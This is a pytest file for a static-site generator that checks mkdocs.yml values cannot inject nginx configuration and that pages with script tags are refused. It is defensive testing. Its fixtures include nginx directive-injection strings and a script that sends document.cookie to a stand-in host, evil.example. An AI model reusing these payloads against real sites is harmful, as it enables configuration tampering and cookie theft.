"""No value an editor or administrator writes can change what the web server does: mkdocs.yml's
site_name and site_url reach the generated nginx configuration only in forms it cannot misread
(hostile ones stop the build with the field and the expected form, nothing published), and content
never adds a script to the site's Content-Security-Policy."""
import os
import urllib.error
import urllib.request

import pytest

from conftest import build_site
from generator.deploy.csp import scripts_in_markdown
from generator.deploy.nginx import ServerConfigError, nginx_config, server_config_problems


def set_config(root, old: str, new: str):
    config = root / "mkdocs.yml"
    text = config.read_text("utf-8")
    assert old in text
    config.write_text(text.replace(old, new, 1), "utf-8")


@pytest.mark.parametrize("site_url, why", [
    ("https://www.example.gov.cn/zwfw;location/", "; ends a directive"),
    ("https://www.example.gov.cn/zwfw/$host/", "$ names a variable (and broke the 404 page)"),
    ("https://www.example.gov.cn/zwfw/x{y}/", "{ } open a block"),
    ("https://www.example.gov.cn/zw%66w/", "nginx matches the decoded path: the column would be served without the CSP"),
    ("https://www.example.gov.cn/zwfw/../etc/", "a path that leaves the column"),
])
def test_a_site_url_path_nginx_would_misread_is_refused(site_url, why):
    [problem] = server_config_problems(site_url, "办事指南")
    assert problem.startswith("mkdocs.yml 的 site_url：") and "只能用英文字母、数字和 - _ . ~" in problem, why
    with pytest.raises(ServerConfigError):
        nginx_config(site_url, "办事指南", [])


@pytest.mark.parametrize("name", ["新村\nlocation = /pwned { return 200; }", "新村\r\nadd_header X 1;", "新村\u2028x"])
def test_a_line_break_in_the_site_name_is_refused(name):
    [problem] = server_config_problems("https://www.example.gov.cn/zwfw/xincun/", name)
    assert problem.startswith("mkdocs.yml 的 site_name：") and "换行" in problem


def test_the_build_stops_on_a_hostile_value_and_publishes_nothing(project_copy):
    set_config(project_copy, "site_url: https://banshi.example.cn/", "site_url: https://banshi.example.cn/zwfw/$host/")
    site = project_copy / "site"
    result = build_site(project_copy, site)
    assert result.returncode != 0 and "Traceback" not in result.stderr
    assert "mkdocs.yml 的 site_url：网址路径“/zwfw/$host/”" in result.stderr
    assert not site.exists()


def test_a_script_in_a_hand_written_page_is_refused(project_copy):
    page = project_copy / "content" / "pages" / "notice.md"
    page.write_text("# 通知\n\n<script>fetch('https://evil.example/'+document.cookie)</script>\n", "utf-8")
    site = project_copy / "site"
    result = build_site(project_copy, site)
    assert result.returncode != 0 and "Traceback" not in result.stderr
    assert "以下页面含有 <script> 脚本" in result.stderr and "content/pages/notice.md" in result.stderr
    assert not site.exists()


@pytest.mark.parametrize("text, found", [
    ("<script>alert(1)</script>", 1),
    ('<SCRIPT type="text/javascript">x()</SCRIPT>', 1),
    ('<script src="https://cdn.example/x.js"></script>', 1),
    ('<script type="application/ld+json">{"a": 1}</script>', 0),  # data, never run
    ("```html\n<script>alert(1)</script>\n```", 0),               # shown as code
    ("写成 `<script>` 的标签", 0),
])
def test_what_counts_as_a_script_in_a_page(text, found):
    assert len(scripts_in_markdown(text)) == found


def test_a_name_with_nginx_syntax_stays_a_comment_and_the_site_is_served(project_copy):
    """Quotes, braces, semicolons and $ in the site name are harmless on one line: nginx -t accepts
    the configuration, the column is served with its CSP, and nothing the name spells is served."""
    from bench.nginx_site import nginx_binary, start

    binary = nginx_binary()
    if binary is None:
        if os.environ.get("CI"):
            pytest.fail("nginx is missing: CI must test the generated configuration (make system-deps)")
        pytest.skip("nginx not installed (run: make system-deps)")
    set_config(project_copy, "site_url: https://banshi.example.cn/", "site_url: https://www.example.gov.cn/zwfw/xincun/")
    name = '新村"; } location = /pwned { return 200 "$host"; } #'
    config = (project_copy / "mkdocs.yml").read_text("utf-8")
    (project_copy / "mkdocs.yml").write_text(
        "\n".join(f"site_name: '{name}'" if line.startswith("site_name:") else line for line in config.split("\n")), "utf-8")
    site = project_copy / "site"
    result = build_site(project_copy, site)
    assert result.returncode == 0, result.stderr[-2000:]
    server = start(site, binary, "/zwfw/xincun/")  # runs nginx -t first
    try:
        with urllib.request.urlopen(server.url) as response:
            assert response.status == 200 and "script-src 'self'" in response.headers["Content-Security-Policy"]
        port = server.url.split(":")[2].split("/")[0]
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(f"http://127.0.0.1:{port}/pwned")
        assert refused.value.code == 404
    finally:
        server.stop()


def test_strict_means_strict_with_or_without_quiet(project_copy):
    """`mkdocs build --strict -q` used to drop warnings before strict counted them: a dead link
    went live with exit 0. Quiet now only quiets the console."""
    import subprocess
    import sys

    guide = project_copy / "content" / "pages" / "editor" / "index.md"
    guide.write_text(guide.read_text("utf-8") + "\n[旧的通知](old-notice.md)\n", "utf-8")
    site = project_copy / "site"
    env = dict(os.environ, NO_MKDOCS_2_WARNING="1")
    quiet = subprocess.run([sys.executable, "-m", "mkdocs", "build", "--strict", "-q", "-d", str(site)],
                           capture_output=True, text=True, env=env, cwd=project_copy)
    assert quiet.returncode != 0 and not site.exists()
    assert "old-notice.md" not in quiet.stderr  # quiet: the warning itself is not printed
    loud = build_site(project_copy, site)
    assert loud.returncode != 0 and "old-notice.md" in loud.stderr


def test_a_full_disk_during_the_build_is_said_in_chinese_and_publishes_nothing(project_copy):
    """MkDocs printed a 16-line OSError traceback. The build runs here with MkDocs' file writer made
    to fail as a full disk does (errno ENOSPC)."""
    import subprocess
    import sys

    site = project_copy / "site"
    assert build_site(project_copy, site).returncode == 0
    before = sorted(p.relative_to(site) for p in site.rglob("*"))
    run_full = ("import errno, sys, mkdocs.utils, mkdocs.__main__\n"
                "def full(content, output_path):\n"
                "    raise OSError(errno.ENOSPC, 'No space left on device', output_path)\n"
                "mkdocs.utils.write_file = full\n"
                "sys.argv = ['mkdocs', 'build', '--strict', '-d', sys.argv[1]]\n"
                "mkdocs.__main__.cli()\n")
    failed = subprocess.run([sys.executable, "-c", run_full, str(site)], capture_output=True, text=True,
                            cwd=project_copy, env=dict(os.environ, NO_MKDOCS_2_WARNING="1"))
    assert failed.returncode != 0 and "Traceback" not in failed.stderr, failed.stderr[-2000:]
    assert "生成网站时写文件失败：磁盘空间不足，请清理磁盘后重新生成" in failed.stderr
    assert sorted(p.relative_to(site) for p in site.rglob("*")) == before
